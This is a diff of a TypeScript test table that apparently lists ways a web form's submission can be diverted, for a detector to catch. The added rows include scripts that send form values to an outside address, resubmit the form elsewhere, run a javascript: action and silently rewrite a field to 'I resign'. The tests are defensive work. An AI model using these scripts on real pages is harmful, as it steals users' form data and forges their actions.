@@ -59,6 +59,36 @@ const moved: readonly (readonly [mechanism: string, name: string, script: string
     'the button submits another form',
     `document.body.insertAdjacentHTML('beforeend', '<form id="other" action="${elsewhere}"></form>'); ${button}.setAttribute('form', 'other');`,
   ],
+  ['other method', 'the form is posted', `${form}.method = 'post';`],
+  ['other method', 'the button posts the form', `${button}.setAttribute('formmethod', 'post');`],
+  [
+    'other method',
+    'the form is posted with another encoding',
+    `${form}.method = 'post'; ${form}.enctype = 'multipart/form-data';`,
+  ],
+  ['other window', 'the form opens a window', `${form}.target = '_blank';`],
+  ['other window', 'the button opens a window', `${button}.setAttribute('formtarget', '_blank');`],
+  [
+    'other window',
+    'the form opens in a frame',
+    `document.body.insertAdjacentHTML('beforeend', '<iframe name="box"></iframe>'); ${form}.target = 'box';`,
+  ],
+  ['led by script', 'the form leads to code', `${form}.action = 'javascript:void(window.acts.push("stolen"))';`],
+  [
+    'led by script',
+    'a script submits the form elsewhere',
+    `${button}.addEventListener('click', (event) => { event.preventDefault(); ${form}.action = '${elsewhere}'; ${form}.submit(); });`,
+  ],
+  [
+    'led by script',
+    'a script leads the values elsewhere',
+    `${button}.addEventListener('click', (event) => { event.preventDefault(); location.href = '${elsewhere}?' + new URLSearchParams(new FormData(${form})); });`,
+  ],
+  [
+    'led by script',
+    'a value changes as it is collected',
+    `${form}.addEventListener('formdata', (event) => event.formData.set('message', 'I resign'));`,
+  ],
   ['riskier address', 'the address names an ending', `${form}.action = '/workspace/delete'; ${form}.method = 'post';`],
   ['riskier address', 'the button names an ending', `${button}.setAttribute('formaction', '/account/close-account');`],
 ];
